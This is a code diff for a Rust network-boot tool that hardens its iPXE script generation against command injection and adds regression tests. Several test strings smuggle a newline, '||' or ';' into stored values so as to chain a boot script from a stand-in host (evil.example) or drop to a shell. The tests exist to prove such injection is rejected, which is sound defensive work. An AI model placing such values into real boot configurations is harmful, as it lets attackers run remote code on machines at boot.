@@ -14,6 +14,7 @@ use std::path::{Path, PathBuf};
 use minijinja::{Environment, ErrorKind, UndefinedBehavior};
 use serde::Serialize;
 
+use crate::boot::script_value::{check_script_value, inert_script_text};
 use crate::mac::Mac;
 use crate::store::{Machine, MachineState, Profile, Variables};
 
@@ -110,7 +111,7 @@ pub fn decide_script(machine: Option<&Machine>, profile: Option<&Profile>) -> Sc
         (Some(name), _) => Err(WaitReason::MissingProfile(name.clone())),
     };
     match machine.state {
-        MachineState::Discovered => ScriptChoice::Wait {
+        MachineState::Discovered | MachineState::Ignored => ScriptChoice::Wait {
             reason: WaitReason::Discovered,
         },
         MachineState::Local => ScriptChoice::Local,
@@ -349,6 +350,22 @@ impl ScriptTemplates {
         // Printing an undefined value is an error (a typo must not silently produce a
         // broken kernel command line); `{% if variables.x %}` on a missing key still works.
         env.set_undefined_behavior(UndefinedBehavior::SemiStrict);
+        // Every printed value is checked, `| safe` or not: stored data must never add a
+        // line or a command to a script (see `script_value`).
+        env.set_formatter(|out, _state, value| {
+            let text = if value.is_undefined() {
+                String::new()
+            } else {
+                value.to_string()
+            };
+            check_script_value(&text).map_err(|why| {
+                minijinja::Error::new(
+                    ErrorKind::InvalidOperation,
+                    format!("a value printed into the script {why}"),
+                )
+            })?;
+            out.write_str(&text).map_err(minijinja::Error::from)
+        });
         let dir = self.dir.clone();
         env.set_loader(move |name| load_template(&dir, name));
         env
@@ -400,14 +417,9 @@ pub fn is_plain_template_name(name: &str) -> bool {
 /// on the console and retries, so fixing the template boots the machine without a power
 /// cycle. Not a template itself, since the templates are what failed.
 pub fn fallback_script(error: &str, script_url: &str, retry_secs: u32) -> String {
-    // iPXE expands `${…}` in echo arguments; keep the message literal and on one line.
-    let message: String = error
-        .chars()
-        .map(|c| match c {
-            '$' | '\n' | '\r' => ' ',
-            other => other,
-        })
-        .collect();
+    // iPXE expands `${…}` in echo arguments and the error may quote operator data: keep
+    // the message literal, on one line and one command.
+    let message = inert_script_text(error);
     format!(
         "{IPXE_MAGIC}\necho bootforge: cannot build this machine's boot script: {message}\n\
          echo Retrying in {retry_secs} seconds.\nsleep {retry_secs}\nchain --replace {script_url}\n"
@@ -633,6 +645,54 @@ mod tests {
         assert!(s.starts_with("#!ipxe\n"));
         assert!(!s.contains("${x}"));
         assert!(s.contains("chain --replace http://[::1]:1/boot/m.ipxe\n"));
+    }
+
+    /// Values that reach the renderer without input validation (an old row, a direct
+    /// database edit, a cmdline that prints a newline) still cannot add a line or command.
+    #[test]
+    fn stored_values_cannot_add_lines_or_commands() {
+        let t = ScriptTemplates::new(tempfile::tempdir().unwrap().path().to_path_buf());
+        let injections = [
+            "/dev/sda\nchain http://evil.example/pwn.ipxe\n#",
+            "/dev/sda || chain http://evil.example/pwn.ipxe",
+            "/dev/sda ; shell",
+            "/dev/sda \\",
+        ];
+        for bad in injections {
+            let mut m = machine(MachineState::Ready, Some("debian"));
+            m.variables.insert("disk".into(), json!(bad));
+            let p = profile();
+            let choice = decide_script(Some(&m), Some(&p));
+            let ctx = ScriptContext::new(MAC, Some(&m), Some(&p), &choice, &urls(), 7);
+            let err = t.render(choice.template(), &ctx).unwrap_err();
+            assert!(matches!(err, ScriptError::Render { .. }), "{bad:?}: {err}");
+        }
+        let m = machine(MachineState::Ready, Some("debian"));
+        // Printed by the cmdline template itself, even marked safe; or a line break typed
+        // into the cmdline text, caught where the cmdline is printed.
+        for cmdline in [
+            "console=ttyS0 {{ \"\\n\" | safe }}chain http://evil.example/x",
+            "console=ttyS0\nchain http://evil.example/x",
+        ] {
+            let mut p = profile();
+            p.cmdline = cmdline.into();
+            let choice = decide_script(Some(&m), Some(&p));
+            let ctx = ScriptContext::new(MAC, Some(&m), Some(&p), &choice, &urls(), 7);
+            assert!(t.render(choice.template(), &ctx).is_err(), "{cmdline:?}");
+        }
+    }
+
+    #[test]
+    fn fallback_script_cannot_be_steered_by_the_error_text() {
+        let s = fallback_script(
+            "bad ; chain http://evil.example/x || shell #",
+            "http://[::1]:1/boot/m.ipxe",
+            3,
+        );
+        let lines: Vec<&str> = s.lines().collect();
+        assert_eq!(lines.len(), 5, "{s}");
+        assert!(lines[1].starts_with("echo "), "{s}");
+        assert_eq!(check_script_value(lines[1]), Ok(()), "{s}");
     }
 
     #[test]
